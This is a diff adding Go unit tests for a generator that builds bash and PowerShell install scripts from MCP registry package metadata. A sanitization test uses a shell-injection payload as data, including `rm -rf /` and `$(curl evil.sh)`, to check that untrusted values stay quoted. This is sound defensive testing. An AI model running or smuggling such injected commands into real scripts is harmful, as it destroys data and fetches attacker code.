@@ -0,0 +1,175 @@
+package installscript_test
+
+import (
+	"regexp"
+	"strings"
+	"testing"
+
+	"github.com/modelcontextprotocol/registry/internal/installscript"
+	"github.com/modelcontextprotocol/registry/internal/model"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func newServerDetail(pkg model.Package) *model.ServerDetail {
+	return &model.ServerDetail{
+		Server: model.Server{
+			Name:          "io.github.example/weather",
+			VersionDetail: model.VersionDetail{Version: "1.0.0"},
+		},
+		Packages: []model.Package{pkg},
+	}
+}
+
+func TestGenerateBash(t *testing.T) {
+	pkg := model.Package{
+		RegistryName: "npm",
+		Name:         "@example/weather",
+		Version:      "1.2.3",
+		RuntimeArguments: []model.Argument{
+			{Type: model.ArgumentTypeNamed, Name: "--node-options", InputWithVariables: model.InputWithVariables{
+				Input: model.Input{Value: "--max-old-space-size=512"},
+			}},
+		},
+		PackageArguments: []model.Argument{
+			{Type: model.ArgumentTypeNamed, Name: "--port", InputWithVariables: model.InputWithVariables{
+				Input: model.Input{Default: "8080"},
+			}},
+			{Type: model.ArgumentTypePositional, ValueHint: "directory"},
+		},
+		EnvironmentVariables: []model.KeyValueInput{
+			{Name: "WEATHER_API_KEY", InputWithVariables: model.InputWithVariables{
+				Input: model.Input{Description: "Your weather API key", IsRequired: true, IsSecret: true},
+			}},
+			{Name: "WEATHER_UNITS", InputWithVariables: model.InputWithVariables{
+				Input: model.Input{Description: "Units", Default: "metric"},
+			}},
+		},
+	}
+
+	script, err := installscript.Generate(newServerDetail(pkg), &pkg, installscript.OSLinux)
+	require.NoError(t, err)
+
+	assert.True(t, strings.HasPrefix(script, "#!/usr/bin/env bash\n"))
+	assert.Contains(t, script, "if ! command -v 'npm' >/dev/null 2>&1; then\n")
+	assert.Contains(t, script, "  read -r -s -p 'WEATHER_API_KEY (Your weather API key): ' WEATHER_API_KEY < /dev/tty\n")
+	assert.Contains(t, script, "export WEATHER_API_KEY\n")
+	assert.NotContains(t, script, "WEATHER_UNITS", "optional variables are not prompted for")
+	assert.Contains(t, script, "'npm' 'install' '--global' '@example/weather@1.2.3'\n")
+	assert.Contains(t, script,
+		"exec 'npx' '--yes' '--node-options' '--max-old-space-size=512' '@example/weather@1.2.3' '--port' '8080'\n")
+}
+
+func TestGeneratePowerShell(t *testing.T) {
+	pkg := model.Package{
+		RegistryName: "docker",
+		Name:         "example/weather",
+		Version:      "1.2.3",
+		EnvironmentVariables: []model.KeyValueInput{
+			{Name: "WEATHER_API_KEY", InputWithVariables: model.InputWithVariables{
+				Input: model.Input{IsRequired: true},
+			}},
+		},
+	}
+
+	script, err := installscript.Generate(newServerDetail(pkg), &pkg, installscript.OSWindows)
+	require.NoError(t, err)
+
+	assert.Contains(t, script, "$ErrorActionPreference = 'Stop'\n")
+	assert.Contains(t, script, "if (-not (Get-Command 'docker' -ErrorAction SilentlyContinue)) {\n")
+	assert.Contains(t, script, "    $env:WEATHER_API_KEY = Read-Host -Prompt 'WEATHER_API_KEY'\n")
+	assert.Contains(t, script, "& 'docker' 'pull' 'example/weather:1.2.3'\n")
+	assert.Contains(t, script, "& 'docker' 'run' '-i' '--rm' '-e' 'WEATHER_API_KEY' 'example/weather:1.2.3'\n")
+}
+
+func TestGenerateUnsupportedRegistry(t *testing.T) {
+	pkg := model.Package{RegistryName: "nuget", Name: "Example.Weather", Version: "1.0.0"}
+
+	_, err := installscript.Generate(newServerDetail(pkg), &pkg, installscript.OSLinux)
+	assert.ErrorIs(t, err, installscript.ErrUnsupportedRegistry)
+}
+
+// maliciousPackage returns a package whose metadata all ends with the suffix
+func maliciousPackage(suffix string) (*model.ServerDetail, *model.Package) {
+	pkg := model.Package{
+		RegistryName: "pypi",
+		Name:         "weather" + suffix,
+		Version:      "1.0.0" + suffix,
+		RuntimeArguments: []model.Argument{
+			{Type: model.ArgumentTypeNamed, Name: "--flag" + suffix, InputWithVariables: model.InputWithVariables{
+				Input: model.Input{Value: "value" + suffix},
+			}},
+		},
+		PackageArguments: []model.Argument{
+			{Type: model.ArgumentTypePositional, InputWithVariables: model.InputWithVariables{
+				Input: model.Input{Default: "default" + suffix},
+			}},
+		},
+		EnvironmentVariables: []model.KeyValueInput{
+			{Name: "API_KEY" + suffix, InputWithVariables: model.InputWithVariables{
+				Input: model.Input{Description: "key" + suffix, IsRequired: true, IsSecret: true},
+			}},
+		},
+	}
+	serverDetail := newServerDetail(pkg)
+	serverDetail.Name += suffix
+	return serverDetail, &pkg
+}
+
+// unquotedSyntax returns the characters of the script outside single quotes, without the characters
+// sanitized names may contain
+func unquotedSyntax(script string) string {
+	var syntax strings.Builder
+	for i, part := range strings.Split(script, "'") {
+		if i%2 == 0 {
+			syntax.WriteString(part)
+		}
+	}
+	return strings.Map(func(r rune) rune {
+		if (r >= 'a' && r <= 'z') || (r >= 'A' && r <= 'Z') || (r >= '0' && r <= '9') || strings.ContainsRune("_./@-", r) {
+			return -1
+		}
+		return r
+	}, syntax.String())
+}
+
+func TestGenerateSanitizesPackageMetadata(t *testing.T) {
+	const payload = "'; rm -rf / #$(curl evil.sh)`id`|&><\"\n\\*?!{}[]~‘’\u201c$env:PATH"
+	quotedWord := regexp.MustCompile(`^[A-Za-z0-9@/._+:=,() -]*$`)
+
+	for _, os := range []installscript.OS{installscript.OSLinux, installscript.OSMacOS, installscript.OSWindows} {
+		t.Run(string(os), func(t *testing.T) {
+			serverDetail, pkg := maliciousPackage(payload)
+			script, err := installscript.Generate(serverDetail, pkg, os)
+			require.NoError(t, err)
+
+			benignDetail, benignPackage := maliciousPackage("")
+			benign, err := installscript.Generate(benignDetail, benignPackage, os)
+			require.NoError(t, err)
+
+			// Untrusted values only ever end up quoted, or unquoted as plain names
+			assert.Equal(t, unquotedSyntax(benign), unquotedSyntax(script))
+			assert.Equal(t, strings.Count(benign, "\n"), strings.Count(script, "\n"))
+			for i, word := range strings.Split(script, "'") {
+				if i%2 == 1 {
+					assert.Regexp(t, quotedWord, word)
+				}
+			}
+			assert.Contains(t, script, "'weatherrm-rf/curlevil.shidenvPATH==1.0.0rm-rfcurlevil.shidenvPATH'")
+		})
+	}
+}
+
+func TestGenerateRejectsEmptyPackage(t *testing.T) {
+	pkg := model.Package{RegistryName: "npm", Name: "$(;|&)", Version: "1.0.0"}
+
+	_, err := installscript.Generate(newServerDetail(pkg), &pkg, installscript.OSLinux)
+	assert.ErrorIs(t, err, installscript.ErrInvalidPackage)
+}
+
+func TestOSContentType(t *testing.T) {
+	assert.Equal(t, "text/x-shellscript", installscript.OSLinux.ContentType())
+	assert.Equal(t, "text/x-shellscript", installscript.OSMacOS.ContentType())
+	assert.Equal(t, "text/x-powershell", installscript.OSWindows.ContentType())
+	assert.False(t, installscript.OS("plan9").IsValid())
+}